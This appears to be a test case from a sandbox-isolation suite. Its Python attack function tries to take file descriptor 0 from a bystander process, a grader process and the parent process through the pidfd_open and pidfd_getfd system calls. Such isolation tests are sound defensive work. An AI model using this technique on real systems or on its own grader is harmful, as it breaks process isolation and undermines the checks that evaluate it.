"""Success: an open file of another process."""

import os

from kit import got, system_call, tries


def steal(pid, fd):
    return got(f"a copy {system_call('pidfd_getfd', system_call('pidfd_open', pid, 0), fd, 0)}")


def attack(a):
    return tries(
        lambda: steal(a["bystander_pid"], 0),
        lambda: steal(a["grader_pid"], 0),
        lambda: steal(os.getppid(), 0),
    )
